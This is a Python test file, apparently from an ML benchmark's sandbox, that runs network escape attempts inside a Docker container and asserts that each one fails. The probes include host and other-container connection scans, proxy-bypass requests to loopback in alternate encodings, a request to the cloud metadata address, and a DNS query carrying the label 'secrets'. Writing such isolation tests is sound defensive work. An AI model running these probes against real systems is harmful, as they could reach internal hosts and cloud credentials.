"""Attacks on the network policy. Each test fails if the attack succeeds."""

from __future__ import annotations

import socket
import time
import uuid
from contextlib import closing
from pathlib import Path

import docker
import pytest

from tests.sandbox.hostile.listener import Listener
from tests.sandbox.scripted import PLAIN, Runner, docker_sandbox, make_runner

pytestmark = pytest.mark.docker

# Prints `open HOST` for each address that accepts a connection.
REACH = """
import socket, sys
for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    try:
        socket.create_connection((host, int(port)), 2).close()
        print("open", target)
    except OSError as error:
        print("closed", target, error)
"""


@pytest.mark.parametrize("network", ["llm", "none"])
def test_the_hosts_network_is_unreachable(
    network: str, listener: Listener, docker_engine: None, tmp_path: Path
) -> None:
    port, callers = listener.port, listener.callers
    attack = make_runner(docker_sandbox(network=network), tmp_path)
    targets = [f"{host}:{port}" for host in [*listener.addresses, "host.docker.internal", "gateway.docker.internal"]]
    look = "tail -n +3 /proc/net/dev | cut -d: -f1; tail -n +2 /proc/net/route"
    result = attack(f"python3 -c '{REACH}' {' '.join(targets)}; {look}")
    assert "open" not in result.log
    assert not callers
    assert result.log.split()[-1] == "lo"  # only the loopback interface, and no route


def test_the_proxy_does_not_lead_to_the_host(listener: Listener, attack: Runner) -> None:
    port, callers = listener.port, listener.callers
    hosts = [*listener.addresses, "localhost", "0.0.0.0", "[::1]", "2130706433", "host.docker.internal", "127.1"]
    tries = " ".join(f"http://{host}:{port}/" for host in hosts)
    result = attack(
        f"for url in {tries}; do curl -s -o /dev/null -w '%{{http_code}}\\n' --noproxy '' -x $HTTP_PROXY $url; "
        "curl -s -p -o /dev/null --noproxy '' -x $HTTP_PROXY $url && echo tunnelled; done; "
        f"curl -s --socks5 localhost:3128 http://127.0.0.1:{port}/ && echo socks"
    )
    assert set(result.log.split()) <= {"403", "000"}
    assert not callers
    assert all(connection.allowed is False for connection in result.execution.sandbox.connections)


def test_the_metadata_address_is_unreachable(attack: Runner) -> None:
    result = attack(
        f"python3 -c '{REACH}' 169.254.169.254:80; "
        "curl -s -m 5 -x $HTTP_PROXY http://169.254.169.254/latest/meta-data/ -o /dev/null -w '%{http_code}\\n'"
    )
    assert "open" not in result.log
    assert result.log.split()[-1] == "403"


def test_names_cannot_be_resolved(attack: Runner) -> None:
    query = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
    query += "for server in ('127.0.0.11', '127.0.0.53', '127.0.0.1', '198.51.100.1'):\n"
    query += "    try:\n        s.sendto(b'0' * 12 + b'\\x07secrets', (server, 53)); s.recv(1); print('answered')\n"
    query += "    except OSError as error: print('silent')\n"
    result = attack(f'getent hosts secret.example.com && echo answered; python3 -c "{query}"')
    assert result.log.split() == ["silent"] * 4


def test_another_container_is_unreachable(attack: Runner) -> None:
    client = docker.from_env()
    image = attack.sandbox.images.environment()  # type: ignore[attr-defined]
    other = client.containers.create(
        image, entrypoint=["python3", "-m", "http.server", "8000"], name=_unique("other"), **PLAIN
    )
    try:
        other.start()
        other.reload()
        address = other.attrs["NetworkSettings"]["IPAddress"]
        _wait_for(address)
        result = attack(
            f"python3 -c '{REACH}' {address}:8000 {other.name}:8000; "
            f"curl -s -o /dev/null -w '%{{http_code}}\\n' -x $HTTP_PROXY http://{address}:8000/"
        )
    finally:
        other.remove(force=True)
    assert "open" not in result.log
    assert result.log.split()[-1] == "403"


def _unique(name: str) -> str:
    return f"mlebench-test-{name}-{uuid.uuid4().hex[:8]}"


def _wait_for(address: str) -> None:
    for _ in range(100):
        with closing(socket.socket()) as probe:
            if probe.connect_ex((address, 8000)) == 0:
                return
        time.sleep(0.05)
    raise AssertionError("the other container does not listen")
